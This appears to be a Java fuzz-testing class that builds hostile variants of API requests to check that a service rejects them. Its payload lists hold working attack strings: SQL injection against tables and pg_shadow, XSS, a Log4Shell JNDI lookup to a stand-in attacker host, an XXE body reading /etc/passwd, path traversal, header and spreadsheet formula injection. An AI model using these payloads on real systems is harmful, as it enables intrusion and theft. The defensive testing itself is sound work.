package vn.inspectorate.e2e.hostile;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.DeserializationFeature;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.math.BigInteger;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.UUID;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.engine.SourceOfRandomness;

/**
 * The hostile variants of a valid request. Values are drawn from jqwik arbitraries with the request's own seeded
 * source of randomness, so one seed always gives the same request.
 */
enum Mutations {
    VALID, WRONG_TYPE, MISSING_FIELD, NULL_FIELD, EXTRA_FIELD, HUGE_STRING, HUGE_ARRAY, DEEP_NESTING, INVALID_UTF8,
    UNKNOWN_ENUM, BOUNDARY_NUMBER, BOUNDARY_DATE, WRONG_CONTENT_TYPE, EMPTY_OR_SCALAR_BODY, MALFORMED_JSON, INJECTION,
    BAD_PATH_ID, UNKNOWN_PATH_ID;

    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    /** Reads one JSON text as RFC 8259 has it: nothing may follow the value. */
    private static final ObjectMapper STRICT = new ObjectMapper()
            .enable(DeserializationFeature.FAIL_ON_TRAILING_TOKENS);
    private static final String PLACEHOLDER = "HOSTILE_PLACEHOLDER_7f3a";
    static final int HUGE_STRING_CHARS = 1 << 20;
    static final int HUGE_ARRAY_ITEMS = 100_000;
    static final int NESTING_LEVELS = 10_000;

    // The weights: the costly mutations (megabyte bodies) are rarer so that ten thousand requests stay within minutes.
    private static final Map<Mutations, Integer> WEIGHTS = new LinkedHashMap<>();

    static {
        for (Mutations m : values()) {
            WEIGHTS.put(m, 8);
        }
        WEIGHTS.put(VALID, 4);
        WEIGHTS.put(HUGE_STRING, 1);
        WEIGHTS.put(HUGE_ARRAY, 1);
        WEIGHTS.put(DEEP_NESTING, 2);
    }

    private static final Arbitrary<String> INJECTIONS = Arbitraries.of(
            "' OR '1'='1", "'; DROP TABLE citizen_case; --", "1; DELETE FROM declaration WHERE 1=1", "\" OR \"\"=\"",
            "' UNION SELECT password FROM pg_shadow --", "$$; SELECT pg_sleep(10); $$", "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>", "javascript:alert(1)", "${jndi:ldap://attacker.example/a}", "{{7*7}}",
            "#{7*7}", "../../../../etc/passwd", "%00", "\u0000", "nul\u0000inside", "\\x00\\u0000", "%s%s%s%n",
            "\r\nX-Injected: yes", "\u202Eevil\u202C", "😀🇻🇳 Hà Nội ĐĂNG", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd");
    private static final Arbitrary<String> TEXT = Arbitraries.strings().withCharRange('\u0000', '\uD7FF')
            .ofMinLength(0).ofMaxLength(40);
    private static final Arbitrary<String> INJECTED_TEXT = Combinators.combine(TEXT, INJECTIONS, TEXT)
            .as((a, b, c) -> a + b + c);
    private static final Arbitrary<JsonNode> BOUNDARY_NUMBERS = Arbitraries.of(
            NODES.numberNode(Long.MAX_VALUE), NODES.numberNode(Long.MIN_VALUE), NODES.numberNode(-1), NODES.numberNode(0),
            NODES.numberNode(1e308), NODES.numberNode(-1e308), NODES.numberNode(Double.MIN_VALUE),
            NODES.numberNode(new BigInteger("9223372036854775808")), NODES.numberNode(new BigInteger("1" + "0".repeat(400))),
            NODES.numberNode(Integer.MAX_VALUE), NODES.numberNode((long) Integer.MAX_VALUE + 1), NODES.numberNode(0.5),
            NODES.numberNode(-0.0), NODES.textNode("NaN"), NODES.textNode("Infinity"), NODES.textNode("-Infinity"),
            NODES.textNode("1e308"), NODES.textNode("9223372036854775808"), NODES.textNode("0x10"));
    private static final Arbitrary<JsonNode> BOUNDARY_DATES = Arbitraries.of(
            "0000-01-01", "9999-12-31", "2026-02-30", "2025-02-29", "2026-13-01", "2026-00-10", "1900-01-01",
            "+10000-01-01", "-0001-01-01", "-999999999-01-01", "+999999999-12-31", "24/11/2026", "2026/11/24",
            "20261124", "2026-11-24T10:15:30Z", "2026-11-24 10:15", "", " ", "today", "1970-01-01T00:00:00+25:00")
            .map(NODES::textNode);
    private static final Arbitrary<JsonNode> WRONG_TYPES = Arbitraries.of(
            NODES.textNode("not a number"), NODES.numberNode(42), NODES.numberNode(3.14), NODES.booleanNode(true),
            NODES.arrayNode().add("x"), NODES.objectNode().put("unexpected", "object"), NODES.arrayNode(),
            NODES.objectNode(), NODES.textNode(""));
    private static final Arbitrary<String> CONTENT_TYPES = Arbitraries.of("text/plain", "application/xml",
            "application/x-www-form-urlencoded", "multipart/form-data; boundary=xyz", "application/octet-stream",
            "application/json; charset=ISO-8859-1", "application/json; charset=UTF-16", "application/problem+json",
            "application/jsonx", "*/*", "garbage", "application/json;;;", "");
    private static final Arbitrary<String> SCALAR_BODIES = Arbitraries.of("", " ", "null", "[]", "{}", "\"text\"",
            "123", "true", "[{}]", "\uFEFF{}");
    private static final Arbitrary<String> BAD_IDS = Arbitraries.of("abc", "1", "-1", "0", "null", "undefined",
            "00000000-0000-0000-0000-00000000000g", "00000000-0000-0000-0000-0000000000000", "' OR '1'='1",
            "%27%20OR%201%3D1", "%00", "%FF%FE", "..%2F..%2Fadmin", "%2e%2e", "x".repeat(5000), "9".repeat(40),
            "%E2%80%AE", "{id}", "%20", "1e308", "NaN");
    /**
     * The bad values of a path parameter other than an id (a body's code, a calendar year). None may be a body's code
     * ({@code ReferenceAdminApi.CODE_PATTERN}): a request earlier in the run may have created a body named "0".
     */
    private static final Arbitrary<String> BAD_CODES = BAD_IDS.filter(id -> !id.matches("[A-Z0-9][A-Z0-9-]{0,39}"));
    private static final byte[][] INVALID_UTF8_BYTES = {
        {(byte) 0xC3, 0x28}, {(byte) 0xFF}, {(byte) 0xFE, (byte) 0xFF}, {(byte) 0xED, (byte) 0xA0, (byte) 0x80},
        {(byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80}, {(byte) 0xC0, (byte) 0xAF},
        {(byte) 0xE2, (byte) 0x82}, {(byte) 0x80}, {(byte) 0xF4, (byte) 0x90, (byte) 0x80, (byte) 0x80}};

    static Mutations draw(Random random, boolean hasPathId) {
        int total = 0;
        for (var e : WEIGHTS.entrySet()) {
            total += applicable(e.getKey(), hasPathId) ? e.getValue() : 0;
        }
        int pick = random.nextInt(total);
        for (var e : WEIGHTS.entrySet()) {
            if (!applicable(e.getKey(), hasPathId)) {
                continue;
            }
            pick -= e.getValue();
            if (pick < 0) {
                return e.getKey();
            }
        }
        throw new IllegalStateException();
    }

    private static boolean applicable(Mutations m, boolean hasPathId) {
        return hasPathId || (m != BAD_PATH_ID && m != UNKNOWN_PATH_ID);
    }

    /**
     * One value of a jqwik arbitrary. Outside a property jqwik samples with its thread's source of randomness, which
     * {@link #randomFor} seeds; jqwik's cache of sampling generators is not thread-safe, hence the lock.
     */
    static <T> T sample(Arbitrary<T> arbitrary) {
        synchronized (Mutations.class) {
            return arbitrary.sample();
        }
    }

    /** The source of randomness of one request, shared by jqwik's sampling on this thread and the choices here. */
    static Random randomFor(long seed) {
        return SourceOfRandomness.create(Long.toString(seed));
    }

    /** The request's parts after this mutation; the valid body and path values are copies that may be changed. */
    Sent apply(WriteOperations.Operation op, JsonNode validBody, Map<String, String> pathValues, Random random) {
        JsonNode body = validBody;
        Map<String, JsonNode> leaves = new LinkedHashMap<>();
        if (body != null && op.schema() != null) {
            SchemaBodies.leaves(op, op.schema(), body, "", leaves, 0);
        }
        String contentType = "application/json";
        switch (this) {
            case VALID:
                break;
            case WRONG_TYPE: {
                String at = any(leaves, random);
                if (at == null) {
                    return raw(contentType, "[1,2,3]");
                }
                body = set(body, at, sample(WRONG_TYPES));
                break;
            }
            case MISSING_FIELD: {
                String at = any(leaves, random);
                if (at == null) {
                    return raw(contentType, "{}");
                }
                body = remove(body, at);
                break;
            }
            case NULL_FIELD: {
                String at = any(leaves, random);
                if (at != null) {
                    body = set(body, at, NODES.nullNode());
                }
                break;
            }
            case EXTRA_FIELD: {
                List<String> objects = new ArrayList<>(List.of(""));
                leaves.forEach((p, s) -> {
                    if (validBody != null && validBody.at(p) instanceof ObjectNode) {
                        objects.add(p);
                    }
                });
                String at = objects.get(random.nextInt(objects.size()));
                if (body instanceof ObjectNode) {
                    JsonNode target = body.at(at);
                    if (target instanceof ObjectNode o) {
                        o.set(random.nextBoolean() ? "isAdmin" : "x" + random.nextInt(1000),
                                random.nextBoolean() ? NODES.booleanNode(true) : NODES.textNode(sample(TEXT)));
                    }
                } else {
                    return raw(contentType, "{\"unexpected\":true}");
                }
                break;
            }
            case HUGE_STRING: {
                String at = ofType(leaves, random, "string");
                String huge = "A".repeat(HUGE_STRING_CHARS - 1) + "Ω";
                if (at == null) {
                    return raw(contentType, "{\"text\":\"" + huge + "\"}");
                }
                body = set(body, at, NODES.textNode(huge));
                break;
            }
            case HUGE_ARRAY: {
                String at = ofType(leaves, random, "array");
                ArrayNode huge = NODES.arrayNode();
                JsonNode item = at == null ? null : body.at(at).path(0);
                if (item == null || item.isMissingNode() || item.toString().length() > 60) {
                    item = NODES.numberNode(1);
                }
                for (int i = 0; i < HUGE_ARRAY_ITEMS; i++) {
                    huge.add(item);
                }
                if (at == null) {
                    at = any(leaves, random);
                }
                if (at == null) {
                    return raw(contentType, huge.toString());
                }
                body = set(body, at, huge);
                break;
            }
            case DEEP_NESTING: {
                String nested = random.nextBoolean()
                        ? "[".repeat(NESTING_LEVELS) + "1" + "]".repeat(NESTING_LEVELS)
                        : "{\"a\":".repeat(NESTING_LEVELS) + "1" + "}".repeat(NESTING_LEVELS);
                String at = any(leaves, random);
                if (at == null || random.nextInt(4) == 0) {
                    return raw(contentType, nested);
                }
                body = set(body, at, NODES.textNode(PLACEHOLDER));
                return spliced(contentType, body, nested.getBytes(StandardCharsets.US_ASCII), true);
            }
            case INVALID_UTF8: {
                byte[] bad = INVALID_UTF8_BYTES[random.nextInt(INVALID_UTF8_BYTES.length)];
                String at = ofType(leaves, random, "string");
                if (at == null) {
                    ByteArrayOutputStream out = new ByteArrayOutputStream();
                    out.writeBytes("{\"a\":\"".getBytes(StandardCharsets.US_ASCII));
                    out.writeBytes(bad);
                    out.writeBytes("\"}".getBytes(StandardCharsets.US_ASCII));
                    return new Sent(contentType, out.toByteArray(), pathValues);
                }
                body = set(body, at, NODES.textNode("x" + PLACEHOLDER + "y"));
                return spliced(contentType, body, bad, false);
            }
            case UNKNOWN_ENUM: {
                List<String> enums = new ArrayList<>();
                leaves.forEach((p, s) -> {
                    if (s.has("enum")) {
                        enums.add(p);
                    }
                });
                String at = enums.isEmpty() ? any(leaves, random) : enums.get(random.nextInt(enums.size()));
                if (at != null) {
                    String current = body.at(at).asText("X");
                    body = set(body, at, NODES.textNode(switch (random.nextInt(5)) {
                        case 0 -> current.toLowerCase(java.util.Locale.ROOT);
                        case 1 -> current + "_V2";
                        case 2 -> " " + current;
                        case 3 -> "'" + current + "' OR 1=1";
                        default -> "UNKNOWN_VALUE";
                    }));
                }
                break;
            }
            case BOUNDARY_NUMBER: {
                String at = ofType(leaves, random, "integer", "number");
                if (at == null) {
                    at = any(leaves, random);
                }
                if (at != null) {
                    body = set(body, at, sample(BOUNDARY_NUMBERS));
                }
                break;
            }
            case BOUNDARY_DATE: {
                List<String> dates = new ArrayList<>();
                leaves.forEach((p, s) -> {
                    String format = s.path("format").asText("");
                    if (format.equals("date") || format.equals("date-time") || p.toLowerCase().endsWith("on")
                            || p.toLowerCase().endsWith("date")) {
                        dates.add(p);
                    }
                });
                String at = dates.isEmpty() ? any(leaves, random) : dates.get(random.nextInt(dates.size()));
                if (at != null) {
                    body = set(body, at, sample(BOUNDARY_DATES));
                }
                break;
            }
            case WRONG_CONTENT_TYPE:
                contentType = sample(CONTENT_TYPES);
                if (contentType.contains("UTF-16") && body != null) {
                    return new Sent(contentType, body.toString().getBytes(StandardCharsets.UTF_16), pathValues);
                }
                if (contentType.contains("form")) {
                    return raw(contentType, "subject=" + sample(INJECTED_TEXT) + "&kind=COMPLAINT");
                }
                if (contentType.contains("xml")) {
                    return raw(contentType, "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>");
                }
                break;
            case EMPTY_OR_SCALAR_BODY:
                return raw(contentType, sample(SCALAR_BODIES));
            case MALFORMED_JSON: {
                String text = body == null ? "{\"a\":1}" : body.toString();
                String broken = switch (random.nextInt(7)) {
                    case 0 -> text.substring(0, Math.max(1, text.length() / 2));
                    case 1 -> text + "}";
                    case 2 -> text + " {\"second\":1}";
                    case 3 -> text.replace('"', '\'');
                    case 4 -> "/* comment */" + text;
                    case 5 -> text.replaceFirst(":", "=");
                    default -> text.replaceFirst("\\{", "{,");
                };
                if (isJson(broken.getBytes(StandardCharsets.UTF_8))) {
                    // a body without the character the variant breaks (no quote, no colon): cut it instead
                    broken = text.substring(0, text.length() - 1);
                }
                return raw(contentType, broken);
            }
            case INJECTION: {
                String at = ofType(leaves, random, "string");
                if (at != null) {
                    body = set(body, at, NODES.textNode(sample(INJECTED_TEXT)));
                }
                break;
            }
            case BAD_PATH_ID:
            case UNKNOWN_PATH_ID: {
                List<String> ids = new ArrayList<>(pathValues.keySet());
                ids.removeIf(name -> !op.pathParams().contains(name));
                if (!ids.isEmpty()) {
                    String name = ids.get(random.nextInt(ids.size()));
                    pathValues.put(name, this == BAD_PATH_ID ? sample(name.equals("id") ? BAD_IDS : BAD_CODES)
                            : new UUID(random.nextLong(), random.nextLong()).toString());
                }
                break;
            }
            default:
                throw new IllegalStateException(name());
        }
        return new Sent(contentType, body == null ? null : bytes(body), pathValues);
    }

    record Sent(String contentType, byte[] body, Map<String, String> pathValues) {
    }

    /**
     * Whether no service may ever accept this request, whatever the records and the rules: a body that is not JSON
     * (malformed, or not UTF-8), a body declared as another media type, a scalar or an empty body where the operation
     * takes an object, or a path id that is not an id or names nothing. Mutations whose values a service may rightly
     * accept (an extra text, a boundary number, parameters of {@code application/json}, a media range, an empty object)
     * are not counted here: their 2xx answers go to the creation ledger.
     */
    boolean neverValid(WriteOperations.Operation op, JsonNode validBody, Sent sent) {
        return switch (this) {
            case BAD_PATH_ID, UNKNOWN_PATH_ID -> !op.pathParams().isEmpty();
            case MALFORMED_JSON, INVALID_UTF8 -> op.hasBody();
            case WRONG_CONTENT_TYPE -> op.hasBody() && !sent.contentType().isEmpty()
                    && !isJsonMediaType(sent.contentType()) && !sent.contentType().contains("*");
            case EMPTY_OR_SCALAR_BODY -> op.hasBody() && validBody instanceof ObjectNode && !isJsonObject(sent.body());
            default -> false;
        };
    }

    /** {@code application/json}, with or without parameters. */
    private static boolean isJsonMediaType(String contentType) {
        String type = contentType.split(";", 2)[0].trim().toLowerCase(java.util.Locale.ROOT);
        return type.equals("application/json");
    }

    /** One JSON text in UTF-8 (a byte order mark allowed, RFC 8259 §8.1), nothing after it. */
    static boolean isJson(byte[] body) {
        if (body == null) {
            return false;
        }
        try {
            StandardCharsets.UTF_8.newDecoder().decode(ByteBuffer.wrap(body));
            return !STRICT.readTree(body).isMissingNode();
        } catch (IOException e) {
            return false;
        }
    }

    private static boolean isJsonObject(byte[] body) {
        try {
            return isJson(body) && STRICT.readTree(body).isObject();
        } catch (IOException e) {
            return false;
        }
    }

    private static Sent raw(String contentType, String text) {
        return new Sent(contentType, text.getBytes(StandardCharsets.UTF_8), null);
    }

    /** The body with the placeholder (and its quotes, if {@code replaceQuoted}) replaced by raw bytes. */
    private static Sent spliced(String contentType, JsonNode body, byte[] insert, boolean replaceQuoted) {
        String text = body.toString();
        String token = replaceQuoted ? "\"" + PLACEHOLDER + "\"" : PLACEHOLDER;
        int at = text.indexOf(token);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(text.substring(0, at).getBytes(StandardCharsets.UTF_8));
        out.writeBytes(insert);
        out.writeBytes(text.substring(at + token.length()).getBytes(StandardCharsets.UTF_8));
        return new Sent(contentType, out.toByteArray(), null);
    }

    private static byte[] bytes(JsonNode body) {
        try {
            return WriteOperations.JSON.writeValueAsBytes(body);
        } catch (JsonProcessingException e) {
            throw new IllegalStateException(e);
        }
    }

    private static String any(Map<String, JsonNode> leaves, Random random) {
        if (leaves.isEmpty()) {
            return null;
        }
        List<String> keys = new ArrayList<>(leaves.keySet());
        return keys.get(random.nextInt(keys.size()));
    }

    private static String ofType(Map<String, JsonNode> leaves, Random random, String... types) {
        List<String> matching = new ArrayList<>();
        leaves.forEach((p, s) -> {
            String type = SchemaBodies.typeOf(s);
            for (String t : types) {
                if (t.equals(type) && !s.has("enum")) {
                    matching.add(p);
                }
            }
        });
        return matching.isEmpty() ? null : matching.get(random.nextInt(matching.size()));
    }

    private static JsonNode set(JsonNode root, String pointer, JsonNode value) {
        int slash = pointer.lastIndexOf('/');
        JsonNode parent = root.at(pointer.substring(0, slash));
        String last = pointer.substring(slash + 1);
        if (parent instanceof ObjectNode o) {
            o.set(last, value);
        } else if (parent instanceof ArrayNode a) {
            a.set(Integer.parseInt(last), value);
        }
        return root;
    }

    private static JsonNode remove(JsonNode root, String pointer) {
        int slash = pointer.lastIndexOf('/');
        JsonNode parent = root.at(pointer.substring(0, slash));
        String last = pointer.substring(slash + 1);
        if (parent instanceof ObjectNode o) {
            o.remove(last);
        } else if (parent instanceof ArrayNode a) {
            a.remove(Integer.parseInt(last));
        }
        return root;
    }
}
